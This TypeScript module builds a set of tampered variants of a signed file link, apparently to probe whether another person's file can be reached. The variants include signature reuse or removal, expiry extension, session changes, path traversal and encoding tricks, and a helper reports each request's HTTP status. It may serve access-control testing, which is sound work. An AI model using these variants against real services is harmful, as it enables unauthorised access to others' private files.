import { request } from 'undici';

/** Ways to get from one's own link to another person's file; each is a path and query. */
export function guesses(ownLink: string, otherLink: string): Readonly<Record<string, string>> {
  const [ownPath = '', ownQuery = ''] = ownLink.split('?');
  const [otherPath = '', otherQuery = ''] = otherLink.split('?');
  const exp = Number(new URLSearchParams(otherQuery).get('exp'));
  const to = new URLSearchParams(otherQuery).get('to') ?? '';
  const sig = new URLSearchParams(otherQuery).get('sig') ?? '';
  const folder = otherPath.slice(0, otherPath.lastIndexOf('/'));
  const way = '../'.repeat(ownPath.split('/').length - 3);
  return {
    'the own signature': `${otherPath}?${ownQuery}`,
    'no signature': otherPath,
    'an empty signature': `${otherPath}?exp=${exp}&to=${to}&sig=`,
    'a longer time': `${otherPath}?exp=${exp + 1}&to=${to}&sig=${sig}`,
    'a time without end': `${otherPath}?exp=999999999999&to=${to}&sig=${sig}`,
    'a changed signature': `${otherPath}?exp=${exp}&to=${to}&sig=${sig.slice(0, -2)}${sig.endsWith('AA') ? 'BB' : 'AA'}`,
    'another session': `${otherPath}?exp=${exp}&to=${to}1&sig=${sig}`,
    'two signatures': `${otherPath}?${ownQuery}&${otherQuery}`,
    'a way around': `${ownPath}/${encodeURIComponent(way)}${otherPath.replace('/api/files/', '')}?${ownQuery}`,
    'the folder': `${folder}?${ownQuery}`,
    'the folder with a slash': `${folder}/?${otherQuery}`,
    'another writing': `${otherPath.replace(/.$/, (last) => `%${last.charCodeAt(0).toString(16)}`)}?${ownQuery}`,
  };
}

export async function statusOf(url: string): Promise<number> {
  const { statusCode, body } = await request(url);
  await body.dump();
  return statusCode;
}
